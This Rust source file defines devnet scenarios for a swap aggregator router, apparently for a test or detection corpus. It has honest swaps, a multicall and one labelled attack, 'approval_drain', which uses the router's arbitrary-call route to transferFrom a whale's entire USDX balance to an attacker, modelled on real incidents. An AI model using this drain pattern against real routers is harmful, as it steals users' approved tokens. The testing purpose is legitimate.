//! SwapAggregator, a router holding users' unlimited approvals: routes that pull from the signer,
//! an honest arbitrary-call route, a multicall of two swaps; the attack uses the arbitrary-call
//! route to `transferFrom(victim, attacker)` (Transit Swap, LI.FI).

use alloy::{primitives::U256, sol_types::SolCall};
use futures::future::BoxFuture;

use super::{ScenarioDef, amount_out, attack, honest, pair_reserves, twin};
use crate::devnet::corpus::{
    Actor::*,
    CorpusError, Shape,
    abi::{IERC20, ISwapAggregator, IUniswapV2Pair, RouteCall},
    driver::{Asset, Driver, Tx},
    eth, usdx,
};

const S: Shape = Shape::Router;

pub(super) const SCENARIOS: &[ScenarioDef] = &[
    honest(
        "router-swap-pulls-from-signer",
        S,
        "user swaps 50k USDX for WETH; the aggregator pulls the USDX from the user",
        swap_pulls_from_signer,
    ),
    honest(
        "router-whale-big-swap",
        S,
        "whale swaps 500k USDX for WETH through the aggregator (WETH +~40%)",
        whale_big_swap,
    ),
    twin(
        "router-execute-route-honest",
        S,
        "router-approval-drain",
        "user routes 20k USDX with executeRoute: calls are a transfer to the pair and pair.swap",
        execute_route_honest,
    ),
    honest(
        "router-multicall",
        S,
        "user multicalls two swaps: 10k USDX for WETH, 5 WETH for USDX",
        multicall,
    ),
    attack(
        "router-approval-drain",
        S,
        "attacker's executeRoute call is USDX.transferFrom(whale, attacker, all of it): 950k",
        approval_drain,
    ),
];

fn swap(d: &Driver, from: crate::devnet::corpus::Actor, usdx_in: U256) -> Result<Tx, CorpusError> {
    let call = ISwapAggregator::swapExactInCall {
        pair: d.addr("Pair")?,
        tokenIn: d.addr("USDX")?,
        amountIn: usdx_in,
        minOut: U256::ZERO,
        to: from.address(),
    };
    Ok(Tx::call(from, d.addr("SwapAggregator")?, call))
}

fn swap_pulls_from_signer(d: &mut Driver) -> BoxFuture<'_, Result<(), CorpusError>> {
    Box::pin(async move {
        let tx = swap(d, User, usdx(50_000))?;
        d.expect_gain("user gets WETH", User.address(), Asset::Token(d.addr("WETH")?), eth(20))
            .await?;
        d.block(vec![tx]).await?;
        Ok(())
    })
}

fn whale_big_swap(d: &mut Driver) -> BoxFuture<'_, Result<(), CorpusError>> {
    Box::pin(async move {
        let tx = swap(d, Whale, usdx(500_000))?;
        d.expect_gain("whale gets WETH", Whale.address(), Asset::Token(d.addr("WETH")?), eth(200))
            .await?;
        d.block(vec![tx]).await?;
        Ok(())
    })
}

fn execute_route_honest(d: &mut Driver) -> BoxFuture<'_, Result<(), CorpusError>> {
    Box::pin(async move {
        let (aggregator, pair) = (d.addr("SwapAggregator")?, d.addr("Pair")?);
        let (weth, token) = (d.addr("WETH")?, d.addr("USDX")?);
        let amount_in = usdx(20_000);
        let (weth_reserve, usdx_reserve) = pair_reserves(d).await?;
        let out = amount_out(amount_in, usdx_reserve, weth_reserve);
        let token0 = d.view(pair, IUniswapV2Pair::token0Call {}).await?;
        let (out0, out1) = if token0 == token { (U256::ZERO, out) } else { (out, U256::ZERO) };
        let calls = vec![
            RouteCall {
                target: token,
                data: IERC20::transferCall { to: pair, amount: amount_in }.abi_encode().into(),
            },
            RouteCall {
                target: pair,
                data: IUniswapV2Pair::swapCall {
                    amount0Out: out0,
                    amount1Out: out1,
                    to: aggregator,
                    data: Default::default(),
                }
                .abi_encode()
                .into(),
            },
        ];
        let call = ISwapAggregator::executeRouteCall {
            tokenIn: token,
            amountIn: amount_in,
            calls,
            tokenOut: weth,
            minOut: out,
        };
        d.expect_gain("user gets the quoted WETH", User.address(), Asset::Token(weth), out).await?;
        d.block(vec![Tx::call(User, aggregator, call)]).await?;
        Ok(())
    })
}

fn multicall(d: &mut Driver) -> BoxFuture<'_, Result<(), CorpusError>> {
    Box::pin(async move {
        let (aggregator, pair) = (d.addr("SwapAggregator")?, d.addr("Pair")?);
        let (weth, token) = (d.addr("WETH")?, d.addr("USDX")?);
        let leg = |token_in, amount_in| {
            ISwapAggregator::swapExactInCall {
                pair,
                tokenIn: token_in,
                amountIn: amount_in,
                minOut: U256::ZERO,
                to: User.address(),
            }
            .abi_encode()
            .into()
        };
        let data = vec![leg(token, usdx(10_000)), leg(weth, eth(5))];
        d.block(vec![Tx::call(User, aggregator, ISwapAggregator::multicallCall { data })]).await?;
        Ok(())
    })
}

fn approval_drain(d: &mut Driver) -> BoxFuture<'_, Result<(), CorpusError>> {
    Box::pin(async move {
        let (aggregator, token) = (d.addr("SwapAggregator")?, d.addr("USDX")?);
        let victim = Whale.address();
        let amount = d.token_balance(token, victim).await?;
        let calls = vec![RouteCall {
            target: token,
            data: IERC20::transferFromCall { from: victim, to: Attacker.address(), amount }
                .abi_encode()
                .into(),
        }];
        let call = ISwapAggregator::executeRouteCall {
            tokenIn: token,
            amountIn: U256::ZERO,
            calls,
            tokenOut: token,
            minOut: U256::ZERO,
        };
        d.expect_loss("the whale loses its USDX", victim, Asset::Token(token), amount).await?;
        d.expect_gain("the attacker takes it", Attacker.address(), Asset::Token(token), amount)
            .await?;
        d.block(vec![Tx::call(Attacker, aggregator, call).attack()]).await?;
        Ok(())
    })
}
